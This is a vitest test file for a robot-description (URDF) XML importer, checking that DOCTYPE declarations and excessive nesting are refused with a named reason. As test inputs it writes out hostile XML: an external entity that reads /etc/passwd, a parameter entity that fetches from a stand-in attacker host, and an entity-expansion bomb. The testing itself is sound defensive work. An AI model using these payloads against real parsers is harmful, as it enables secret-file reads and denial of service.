// What the URDF import refuses about the XML itself, rather than failing:
// a document type declaration (URDF, per the ROS urdf XML specification,
// declares none, and entity declarations are how XML bombs and external
// entity reads work) and nesting deeper than the parser goes. Each is a
// refusal that names the problem, like any other import refusal.
import { describe, expect, test } from "vitest";
import { fixtureText } from "../support/robots";
import { importUrdf, type UrdfImportResult } from "~/kinematics/urdf";

const crab = () => fixtureText("test-crab.urdf");
const withDoctype = (doctype: string) => crab().replace('<?xml version="1.0"?>', `<?xml version="1.0"?>\n${doctype}`);

function refusalOf(result: UrdfImportResult): string {
  if (result.ok) throw new Error("expected a refusal, but the import succeeded");
  return result.issues.map((issue) => issue.message).join("; ");
}

describe("a DOCTYPE is refused, whatever it declares", () => {
  test.each([
    ["a bare DOCTYPE", "<!DOCTYPE robot>"],
    ["an internal entity", '<!DOCTYPE robot [<!ENTITY crab "test_crab">]>'],
    ["an external entity (a file on the server)", '<!DOCTYPE robot [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'],
    ["a parameter entity", '<!DOCTYPE robot [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>'],
    [
      "nested entities that expand a thousandfold (an XML bomb)",
      `<!DOCTYPE robot [<!ENTITY a "${"a".repeat(100)}"><!ENTITY b "${"&a;".repeat(30)}"><!ENTITY c "${"&b;".repeat(30)}">]>`,
    ],
  ])("%s", (_label, doctype) => {
    expect(() => importUrdf(withDoctype(doctype))).not.toThrow();
    expect(refusalOf(importUrdf(withDoctype(doctype)))).toMatch(/DOCTYPE/);
  });

  test("a DOCTYPE mentioned in a comment is only a comment: the file imports", () => {
    const commented = crab().replace("<robot", "<!-- not a <!DOCTYPE robot> -->\n<robot");
    expect(importUrdf(commented).ok).toBe(true);
  });
});

describe("nesting deeper than the parser goes is refused with the depth named", () => {
  test.each([150, 20_000])("%i levels of <gazebo> inside the robot", (depth) => {
    const deep = crab().replace("</robot>", `${"<gazebo>".repeat(depth)}${"</gazebo>".repeat(depth)}</robot>`);
    expect(() => importUrdf(deep)).not.toThrow();
    expect(refusalOf(importUrdf(deep))).toMatch(/nest/i);
  });
});
